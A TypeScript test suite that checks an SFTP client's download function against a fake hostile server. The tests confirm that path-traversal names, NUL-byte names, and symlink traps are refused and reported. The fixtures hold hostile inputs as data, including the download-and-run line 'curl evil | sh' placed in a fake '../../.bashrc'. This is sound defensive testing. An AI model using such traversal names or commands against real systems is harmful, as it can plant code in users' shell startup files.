// Download from a server that lies: names that are paths, the same name twice, a link laid
// as a trap for a later folder. Nothing may land outside the folder the user chose.
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { Client } from 'ssh2';
import { download } from '../../../../src/fs/transfer/download';
import { SftpSession } from '../../../../src/ssh/sftp';
import { FakeNode, serveTree } from '../../../support/scriptedSftp';
import { openSftp } from '../../../support/ssh2Client';
import { FakeServer, startFakeServer } from '../../../support/ssh2Server';
import { makeTempDir } from '../../../support/sshd';

/** Every file and link under `dir`, relative, without following links. */
function tree(dir: string, base = dir): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const full = path.join(dir, e.name);
    return e.isDirectory() ? [path.relative(base, full) + '/', ...tree(full, base)] : [path.relative(base, full)];
  });
}

function memoryLog() {
  const lines: string[] = [];
  const add = (m: string | Error) => void lines.push(String(m));
  return { lines, log: { trace: add, debug: add, info: add, warn: add, error: add } };
}

describe('download from a hostile SFTP server (in-process ssh2 Server)', function () {
  this.timeout(30000);
  let server: FakeServer;
  let client: Client;
  let session: SftpSession;
  let requests: string[];
  let scratch: string;
  let target: string;
  let outside: string;
  const fileTree = (): FakeNode => ({
    type: 'dir',
    entries: [
      ['../../.bashrc', { type: 'file', data: 'curl evil | sh\n' }],
      ['..\\..\\x', { type: 'file', data: 'windows escape\n' }],
      ['a/b', { type: 'file', data: 'slash\n' }],
      ['nul\0name', { type: 'file', data: 'nul\n' }],
      ['..', { type: 'dir', entries: [['.bashrc', { type: 'file', data: 'dotdot\n' }]] }],
      ['ok.txt', { type: 'file', data: 'fine\n' }],
      ['sub', { type: 'dir', entries: [['../../../escape', { type: 'file', data: 'deep\n' }], ['inner.txt', { type: 'file', data: 'inner\n' }]] }],
      // A link to a folder outside, then a folder of the same name with a file to write through it.
      ['trap', { type: 'link', target: '' }],
      ['trap', { type: 'dir', entries: [['.bashrc', { type: 'file', data: 'through the link\n' }]] }],
      // A folder whose local name is already a link (left by an earlier download with links recreated).
      ['pre', { type: 'dir', entries: [['.bashrc', { type: 'file', data: 'through an old link\n' }]] }],
    ],
  });

  beforeEach(async () => {
    scratch = makeTempDir('sbx-hostile-');
    // `target/../../.bashrc` lands in scratch/a/, never in a real home folder, even if the code is wrong.
    target = path.join(scratch, 'a', 'b', 'target');
    outside = path.join(scratch, 'outside');
    fs.mkdirSync(path.join(scratch, 'a', 'b'), { recursive: true });
    fs.mkdirSync(outside);
    const t = fileTree();
    if (t.type === 'dir') (t.entries as [string, FakeNode][])[7] = ['trap', { type: 'link', target: outside }];
    server = await startFakeServer({
      authenticate: (ctx) => (ctx.method === 'none' ? ctx.accept() : ctx.reject(['none'])),
      sftp: (sftp) => (requests = serveTree(sftp, '/box', t).requests),
    });
    client = new Client();
    await new Promise<void>((resolve, reject) => {
      client.once('ready', () => resolve()).once('error', reject);
      client.connect({ host: '127.0.0.1', port: server.port, username: 'u', hostVerifier: (key: Buffer) => key.equals(Buffer.from(server.hostKey.publicKey.split(/\s+/)[1], 'base64')) });
    });
    session = new SftpSession(await openSftp(client));
  });

  afterEach(async () => {
    session.dispose();
    const closed = new Promise<void>((resolve) => client.once('close', () => resolve()));
    client.end();
    await closed;
    await server.stop();
    fs.rmSync(scratch, { recursive: true, force: true });
  });

  for (const symlinks of ['skip', 'recreate'] as const) {
    it(`writes nothing outside the chosen folder and reports every refused name (links: ${symlinks})`, async () => {
      fs.mkdirSync(target);
      fs.symlinkSync(outside, path.join(target, 'pre'));
      const { lines, log } = memoryLog();
      const asked: string[] = [];
      const report = await download(session, [{ remote: '/box', local: target }], { symlinks, log, confirmReplace: async (local) => (asked.push(local), 'replace') });
      assert.deepStrictEqual(asked, [target], 'asked only about merging into the existing target folder');

      assert.deepStrictEqual(tree(outside), [], 'nothing written through a link');
      const escaped = tree(scratch).filter((p) => !p.startsWith(path.join('a', 'b', 'target')) && p !== 'outside/');
      assert.deepStrictEqual(escaped, ['a/', 'a/b/'], 'nothing outside the target');
      // The trap link points outside (an absolute target): not recreated either way.
      assert.deepStrictEqual(tree(target).sort(), ['ok.txt', 'pre', 'sub/', 'sub/inner.txt']);
      assert.strictEqual(fs.readFileSync(path.join(target, 'ok.txt'), 'utf8'), 'fine\n');

      const skipped = report.skipped.map((s) => s.path);
      for (const name of ['/box/../../.bashrc', '/box/..\\..\\x', '/box/a/b', '/box/nul\0name', '/box/sub/../../../escape', '/box/trap', '/box/pre']) {
        assert.ok(skipped.includes(name), `${JSON.stringify(name)} reported as skipped: ${JSON.stringify(report.skipped)}`);
      }
      assert.ok(lines.some((l) => l.includes('"/box/../../.bashrc"') && l.includes('unsafe name')), 'skipped names are logged');
      // A refused name is never even asked about.
      assert.ok(!requests.some((r) => r.includes('.bashrc') && !r.startsWith('/box/trap') && !r.startsWith('/box/pre')), requests.join('\n'));
    });
  }

  /** Serves `t` at /box2 on a second server for one test. */
  async function withTree<T>(t: FakeNode, run: (s: SftpSession) => Promise<T>): Promise<T> {
    const srv = await startFakeServer({
      authenticate: (ctx) => (ctx.method === 'none' ? ctx.accept() : ctx.reject(['none'])),
      sftp: (sftp) => void serveTree(sftp, '/box2', t),
    });
    const c = new Client();
    try {
      await new Promise<void>((resolve, reject) => {
        c.once('ready', () => resolve()).once('error', reject);
        c.connect({ host: '127.0.0.1', port: srv.port, username: 'u', hostVerifier: (key: Buffer) => key.equals(Buffer.from(srv.hostKey.publicKey.split(/\s+/)[1], 'base64')) });
      });
      const s = new SftpSession(await openSftp(c));
      try {
        return await run(s);
      } finally {
        s.dispose();
      }
    } finally {
      const closed = new Promise<void>((resolve) => c.once('close', () => resolve()));
      c.end();
      await closed;
      await srv.stop();
    }
  }
  const notAsked = async (local: string): Promise<never> => assert.fail(`asked about ${local}`);
  const files = (n: number): [string, FakeNode][] => Array.from({ length: n }, (_, i) => [`f${i}`, { type: 'file', data: `${i}\n` }]);

  it('refuses a listing past the entry bound before writing anything', async () => {
    await withTree({ type: 'dir', entries: files(5) }, (s) =>
      assert.rejects(download(s, [{ remote: '/box2', local: target }], { symlinks: 'skip', confirmReplace: notAsked, limits: { maxEntries: 4 } }), /more than 4 entries/),
    );
    assert.ok(!fs.existsSync(target), 'nothing written');
  });

  it('skips folders nested past the depth bound', async () => {
    const deep: FakeNode = { type: 'dir', entries: [['d1', { type: 'dir', entries: [['d2', { type: 'dir', entries: [['d3', { type: 'dir', entries: [['x', { type: 'file', data: 'x' }]] }]] }]] }]] };
    const report = await withTree(deep, (s) => download(s, [{ remote: '/box2', local: target }], { symlinks: 'skip', confirmReplace: notAsked, limits: { maxDepth: 2 } }));
    assert.deepStrictEqual(tree(target), ['d1/', 'd1/d2/']);
    assert.deepStrictEqual(report.skipped, [{ path: '/box2/d1/d2/d3', why: 'folder nested more than 2 levels deep' }]);
  });

  it('keeps and logs a bounded number of skipped items and counts the rest', async () => {
    const bad: [string, FakeNode][] = Array.from({ length: 5 }, (_, i) => [`../x${i}`, { type: 'file', data: 'x' }]);
    const { lines, log } = memoryLog();
    const report = await withTree({ type: 'dir', entries: bad }, (s) => download(s, [{ remote: '/box2', local: target }], { symlinks: 'skip', confirmReplace: notAsked, log, limits: { maxSkipped: 2 } }));
    assert.strictEqual(report.skipped.length, 2);
    assert.strictEqual(report.skippedMore, 3);
    assert.strictEqual(lines.filter((l) => l.includes('skipped "')).length, 2);
    assert.ok(lines.includes('download: … and 3 more skipped (not listed)'), lines.join('\n'));
  });

  it('does not write an empty file for a file whose ATTRS leave out the size', async () => {
    const t: FakeNode = { type: 'dir', entries: [['nosize', { type: 'file', data: 'content the size would have said\n', sizeless: true }], ['ok', { type: 'file', data: 'ok\n' }]] };
    const report = await withTree(t, (s) => download(s, [{ remote: '/box2', local: target }], { symlinks: 'skip', confirmReplace: notAsked }));
    assert.deepStrictEqual(tree(target), ['ok']);
    assert.deepStrictEqual(report.skipped, [{ path: '/box2/nosize', why: 'the server did not send its size' }]);
    assert.strictEqual(report.files, 1);
  });

  it('refuses a selected item whose name cannot be a local name', async () => {
    const { intoFolder } = await import('../../../../src/fs/transfer/download');
    const { items, skipped } = intoFolder(target, ['/box/ok.txt', '/box/..', '/box/a\\b', '/other/ok.txt']);
    assert.deepStrictEqual(items, [{ remote: '/box/ok.txt', local: path.join(target, 'ok.txt') }]);
    assert.deepStrictEqual(skipped.map((s) => s.path), ['/box/..', '/box/a\\b', '/other/ok.txt']);
  });
});
